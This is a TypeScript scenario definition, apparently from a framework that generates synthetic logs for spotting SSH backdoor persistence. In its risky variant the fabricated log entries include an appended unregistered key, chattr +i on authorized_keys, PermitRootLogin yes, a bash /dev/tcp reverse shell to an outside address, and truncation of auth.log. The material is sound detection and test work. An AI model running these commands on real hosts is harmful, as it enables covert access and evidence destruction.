import { closing } from '../../fragments/closing.ts'
import { entry } from '../../fragments/entry.ts'
import { footprint } from '../../fragments/footprint.ts'
import { ordinaryHost } from '../../fragments/ordinary-host.ts'
import { defineScenario } from '../../scenario.ts'

export default defineScenario({
  risk: 'Persistence via Backdoor Implantation',
  title: 'one key more for an account',
  clues: [
    'The key {print} is added to the account {user} by a process that is not of {user}.',
    'No old key goes when the new one comes.',
    'The first login with {print} comes from an address the account never had.',
    'The key is in no registry, though its comment names the team.',
    'The file gets an attribute that keeps even its owner from changing it.',
  ],
  steps: (story) => {
    const { make, either, pick, whole, chance } = story
    const user = pick('acc', ['root', 'deploy', 'backup', 'ubuntu', make.user('u')])
    const home = user === 'root' ? '/root' : `/home/${user}`
    const path = `${home}/.ssh/authorized_keys`
    const fingerprint = `SHA256:${make.id('fp')}${make.id('fp2')}`
    const service = make.serviceUser('svc')
    const outside = make.outsideAddress('from')
    const from = either(outside, make.insideAddress('bastion'))
    story.note('print', fingerprint)
    story.note('user', user)
    return [
      entry(
        'sshd',
        'login',
        {
          user,
          src_ip: make.insideAddress('bastion'),
          method: 'publickey',
          fingerprint: `SHA256:${make.id('old')}`,
          session: make.id('s0'),
        },
        [
          'Accepted {method} for {user} from {src_ip}: {fingerprint}',
          '{user} from {src_ip} with key {fingerprint}',
        ],
      ),
      ordinaryHost(story, 'a', 2),
      entry('audit', 'stat', { path, owner: user, mode: '0600', lines: 2, mtime: '2024-02-11 09:12:40' }, [
        '{path} {lines} keys, owner {owner}, mode {mode}',
        '{path} last changed {mtime}',
      ]),
      entry(
        either(pick('by', ['php-fpm', 'node', 'java']), 'config-agent'),
        'exec',
        {
          pid: make.pid('sh'),
          ppid: make.pid('par'),
          uid: either(33, 0),
          euid: 0,
          user: either(service, 'root'),
          cmd: either(
            `sh -c 'echo ssh-ed25519 AAAA... ops@team >> ${path}'`,
            `sh -c 'apply --role ssh-keys --limit ${user} && echo ok >> /var/log/config-agent.log'`,
          ),
        },
        ['{user} pid={pid} euid={euid}: {cmd}', '{cmd} (parent {ppid})'],
      ),
      story.only(
        'safe',
        entry(
          'key-registry',
          'lookup',
          {
            fingerprint,
            owner: user,
            ticket: make.id('t', 'SEC'),
            expires_days: whole('exp', 30, 365),
            result: 'found',
          },
          [
            '{fingerprint} {result}: owner {owner}, {ticket}',
            'registry: {fingerprint} {result}, {expires_days} days left',
          ],
        ),
      ),
      entry(
        'audit',
        'write',
        {
          path,
          uid: either(33, 0),
          op: either('append', 'replace'),
          inode: make.inode('ak'),
          lines_before: 2,
          lines_after: either(3, 2),
          fingerprint,
        },
        [
          '{path} {op} by uid {uid}: {lines_before} -> {lines_after} keys ({fingerprint})',
          `{path}: ${either('one key more', 'one key for another')}, {fingerprint}`,
        ],
      ),
      entry(
        'audit',
        'stat',
        {
          path,
          owner: user,
          mode: either('0644', '0600'),
          lines: either(3, 2),
          mtime: either('2024-02-11 09:12:40', 'now'),
        },
        ['{path} {lines} keys, owner {owner}, mode {mode}', '{path} last changed {mtime}'],
      ),
      story.only(
        'risky',
        entry('audit', 'chattr', { path, flags: '+i', uid: 0, rc: 0 }, [
          'chattr {flags} {path}',
          'attribute {flags} on {path}',
        ]),
      ),
      story.only(
        'safe',
        entry('audit', 'chattr', { path, flags: '-i', uid: 0, rc: 0 }, [
          'chattr {flags} {path}',
          'attribute {flags} on {path}',
        ]),
      ),
      chance('conf', 0.6)
        ? entry(
            'audit',
            'write',
            {
              path: '/etc/ssh/sshd_config',
              uid: 0,
              content: either('PermitRootLogin yes', 'PermitRootLogin no'),
              op: 'replace',
            },
            ['{path}: {content}', '{path} now says "{content}"'],
          )
        : undefined,
      ordinaryHost(story, 'b', 2),
      entry(
        'sshd',
        'login',
        { user, src_ip: from, method: 'publickey', fingerprint, session: make.id('s1') },
        [
          'Accepted {method} for {user} from {src_ip}: {fingerprint}',
          '{user} from {src_ip} with key {fingerprint}',
        ],
        [600, 20000],
      ),
      entry(
        'geo',
        'seen_before',
        {
          user,
          src_ip: from,
          times_before: either(0, whole('times', 12, 300)),
          network: either('hosting', 'office'),
        },
        [
          '{src_ip} for {user}: seen {times_before} times, {network}',
          '{user}: {src_ip} is of a {network} network',
        ],
        2,
      ),
      entry(
        'audit',
        'exec',
        {
          pid: make.pid('cmd'),
          uid: either(0, make.uid('u')),
          user,
          cmd: either(
            'bash -i >& /dev/tcp/' + outside + '/443 0>&1',
            'bash -c "curl -s http://localhost/health"',
          ),
          tty: either('unknown', 'pts/0'),
        },
        ['{user} tty={tty}: {cmd}', '{cmd} by {user}'],
      ),
      entry(
        either('audit', 'config-agent'),
        either('truncate', 'report'),
        {
          path: either('/var/log/auth.log', '/var/log/config-agent.log'),
          bytes: either(0, whole('b', 300, 4000)),
          changed: 1,
          failed: 0,
        },
        ['{path}: {bytes} bytes', '{path} now {bytes} bytes'],
      ),
      entry('sshd', 'logout', { user, src_ip: from, session: make.id('s1'), lived_s: whole('l', 20, 4000) }, [
        'Disconnected from user {user} {src_ip}',
        'session {session} of {user} ended after {lived_s} s',
      ]),
      ordinaryHost(story, 'c', 1),
      footprint(story, 'foot'),
      closing(story),
    ]
  },
})
